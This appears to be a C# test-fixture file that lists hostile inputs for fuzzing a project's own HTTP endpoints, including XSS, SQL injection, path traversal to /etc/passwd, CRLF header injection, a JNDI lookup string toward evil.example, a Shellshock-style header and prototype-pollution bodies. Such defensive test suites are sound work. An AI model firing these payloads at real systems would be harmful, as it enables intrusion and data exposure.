using System.IO.Compression;
using System.Text;

namespace Kontext.Functions.Tests.Hostile;

/// <summary>What nobody sends by mistake.</summary>
internal static class Nastiness
{
    /// <summary>Values as JSON writes them, also such as no serializer would.</summary>
    public static readonly string[] Json =
    [
        "null", "true", "0", "-1", "1.5", "1e400", "-1e400", "99999999999999999999999999", "9223372036854775808", "\"\"", "\" \"", "\"x\"", "\"\\u0000\"", "\"a\\u0000b\"", "\"\\ud800\"", "\"\\udc00x\\ud800\"",
        "\"\\u202egnp.exe\"", "\"\\u2066a\\u2069\"", "\"\\uff41dmin\"", "\"\\u0430dmin\"", "\"\\ufeff\"", "\"\\u200b\"", "\"\\ud83d\\udd11\"", "\"../../etc/passwd\"", "\"%2e%2e%2f\"", "\"a\\r\\nSet-Cookie: x=1\"", "\"a\\nb\"",
        "\"<script>kx()</script>\"", "\"' OR '1'='1\"", "\"{{7*7}}${7*7}\"", "\"javascript:kx()\"", "\"data:text/html,kx\"", "\"https://[::1\"", "\"http://x:99999/\"", "\"https://u:p@h.example/\"", "\"https://\\ud800.example/\"",
        "\"https://xn--.example/\"", "\"//evil.example\"", "\"file:///etc/passwd\"", "\"https:\\\\\\\\evil.example\"", "\"00000000-0000-0000-0000-000000000000\"", "\"app_00000000-0000-0000-0000-000000000000\"", "\"9999-99-99T99:99:99Z\"", "\"0001-01-01T00:00:00Z\"", "\"9999-12-31T23:59:59.9999999+14:00\"",
        "[]", "[null]", "[[]]", "[\"\\ud800\"]", "[\"x\",\"x\"]", "[1,\"x\",{}]", "{}", "{\"a\":null}", "{\"\":\"\"}", "{\"\\ud800\":1}", "{\"a\":\"\\ud800\"}", "{\"a\":{\"b\":[{}]}}", "{\"__proto__\":{\"admin\":true}}", "{\"tools\":[\"\\ud800\"]}", "{\"tools\":1}", "[{\"a\":1,\"a\":2}]",
        "\"" + new string('a', 300) + "\"", "\"" + new string('\u00e9', 5000) + "\"", "[" + string.Join(',', Enumerable.Repeat("\"x\"", 500)) + "]", new string('[', 60) + new string(']', 60),
    ];

    /// <summary>Values of parameters and form fields.</summary>
    public static readonly string[] Text =
    [
        "", " ", "x", "\0", "a\0b", "\r\nLocation: https://evil.example", "a\nSet-Cookie: x=1", "<script>kx()</script>", "\"><img src=x onerror=kx()>", "../../../etc/passwd", "..\\..\\x", "%00", "%2e%2e%2f", "%", "%zz", "\ufeff", "\u202egnp", "\uff41dmin", "\u0430dmin",
        "\ud83d\udd11", "null", "undefined", "NaN", "-1", "0", "201", "99999999999999999999", "1e9", "true", "[]", "{}", "' OR 1=1 --", "${jndi:ldap://evil.example}", "{{7*7}}", "javascript:kx()", "//evil.example", "https://evil.example", "\\\\evil", "00000000-0000-0000-0000-000000000000",
        "app_00000000-0000-0000-0000-000000000000", "urn:x", "a b", "a+b", "a&b=c", "*", "9999-99-99", "2026-02-30", "0001-01-01", "9999-12-31", "eyJhbGciOiJub25lIn0.e30.", "AAAA", "e30", "//////", "____", new('a', 5000),
    ];

    /// <summary>Path segments as they go over the wire.</summary>
    public static readonly string[] Segments =
    [
        "x", "%00", "x%00y", "%2e%2e", "%2e%2e%2f%2e%2e", "..%2f", "%252e%252e%252f", "%5c..%5c", "..", ".", "...", "x.", "x;a=b", ";x", "%3b", "%3f", "%23", "%25", "%zz", "%", "%c0%ae", "%ff", "%ed%a0%80", "%e2%80%ae", "%EF%BD%81", "%0d%0aX-Split:1", "%20", "+", "*", "~", "'", "%22%3e%3cscript%3e", "{id}",
        "00000000-0000-0000-0000-000000000000", "00000000000000000000000000000000", "{00000000-0000-0000-0000-000000000000}", "app_", "-1", "99999999999999999999", "null", "%F0%9F%94%91", "//", "/%2f/", "x//y", "x/../y", "x/%2e%2e/y", "\\", "x\\y", new('a', 400), new('a', 5000),
    ];

    /// <summary>Bodies that are no JSON object, or only just.</summary>
    public static IEnumerable<byte[]> Bodies(string good)
    {
        var text = Encoding.UTF8.GetBytes(good);
        yield return [];
        yield return text[..(text.Length / 2)];
        yield return [.. text, .. "x"u8];
        yield return [.. text, .. text];
        yield return [0xEF, 0xBB, 0xBF, .. text];
        yield return [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(good)];
        yield return "{\"name\":\"\xff\xfe\"}"u8.ToArray();
        yield return [.. "{\"name\":\""u8, 0xFF, 0xC0, 0x80, 0xED, 0xA0, 0x80, .. "\"}"u8];
        yield return [0];
        foreach (var value in new[] { "null", "[]", "1", "\"x\"", "true", "{\"\":1}", "{\"\\ud800\":1}", "{\"name\":1,\"name\":2}", "{\"a\":1}", "{,}", "{\"a\"}", "//x\n{}", "{\"a\":NaN}", "{'a':1}", "{\"Name\":\"x\",\"NAME\":\"y\"}", "{\"__proto__\":{}}", "{\"constructor\":{\"prototype\":{}}}" })
            yield return Encoding.UTF8.GetBytes(value);
        yield return Encoding.ASCII.GetBytes(new string('[', 10_000) + new string(']', 10_000));
        yield return Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("{\"a\":", 10_000)) + "1" + new string('}', 10_000));
    }

    /// <summary>A text of a million characters in a field.</summary>
    public static byte[] Huge(string field) => Encoding.ASCII.GetBytes($$"""{"{{field}}":"{{new string('a', 1_000_000)}}"}""");

    /// <summary>Content types that the body is not of.</summary>
    public static readonly string[] ContentTypes =
    [
        "application/json; charset=utf-16", "application/json; charset=utf-7", "application/json; charset=x-none", "application/json; charset=\"", "application/json;;;", "application/jsonx", "text/plain", "application/xml", "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=x-none",
        "application/x-www-form-urlencoded; charset=utf-7", "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=x", "*/*", "x", "", "application/json, text/html", "application/problem+json", "application/vnd.api+json; charset=utf-32",
    ];

    /// <summary>Headers that mean something to some server.</summary>
    public static readonly (string Name, string Value)[] Headers =
    [
        ("X-HTTP-Method-Override", "DELETE"), ("X-Method-Override", "PUT"), ("X-Original-URL", "/console"), ("X-Rewrite-URL", "/console"), ("Expect", "200-maybe"), ("Content-Encoding", "br"), ("TE", "trailers, gzip"), ("Accept", "x/y;q=9"), ("Accept-Encoding", "x;q=z"), ("Accept-Language", new string('a', 4000)),
        ("Cookie", "kontext-session=x; kontext-session=y; =; ;;"), ("Cookie", "kontext-session=" + new string('a', 6000)), ("Cookie", "kontext-visitor=" + new string('\\', 43)), ("Origin", "null"), ("Origin", "https://evil.example"), ("Origin", "x"), ("Referer", "javascript:kx()"), ("Host", "evil.example"),
        ("X-Forwarded-For", "x, ::1, 127.0.0.1:99999"), ("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Proto", "gopher"), ("X-Forwarded-Prefix", "/../"), ("Forwarded", "for=\"[::1]\";host=evil.example"), ("X-Original-For", "127.0.0.1"), ("x-ms-invocation-id", "1"), ("traceparent", "00-zz-zz-zz"),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"), ("tracestate", new string('a', 3000)), ("baggage", "a=%"), ("If-Match", "\"x"), ("If-None-Match", "*"), ("If-Modified-Since", "x"), ("Range", "bytes=-1"), ("Prefer", "return=representation, x=\"\\"), ("Idempotency-Key", "\"\""),
        ("DPoP", "x"), ("DPoP", "a.b.c"), ("Authorization", "Basic %%%"), ("Authorization", "Basic Og=="), ("Authorization", "Bearer"), ("Authorization", "Bearer  a b"), ("Authorization", "DPoP x"), ("Authorization", "Negotiate x"), ("X-Api-Key", "x"), ("MCP-Protocol-Version", "9999-99-99"), ("Mcp-Session-Id", "../x"),
        ("Mcp-Name", "\u00e9"), ("Mcp-Method", "=?base64?!!?="), ("Last-Event-ID", "x/y"), ("Upgrade", "websocket"), ("Connection", "X-Api-Key, close"), ("Max-Forwards", "0"), ("X-Request-Id", "<script>"), ("Sec-Fetch-Site", "cross-site"), ("Access-Control-Request-Method", "X"), ("User-Agent", "() { :;}; kx"),
    ];

    /// <summary>What says that it is gzip.</summary>
    public static byte[] Gzip(string text)
    {
        using var memory = new MemoryStream();
        using (var gzip = new GZipStream(memory, CompressionLevel.Fastest, leaveOpen: true))
            gzip.Write(Encoding.UTF8.GetBytes(text));
        return memory.ToArray();
    }
}
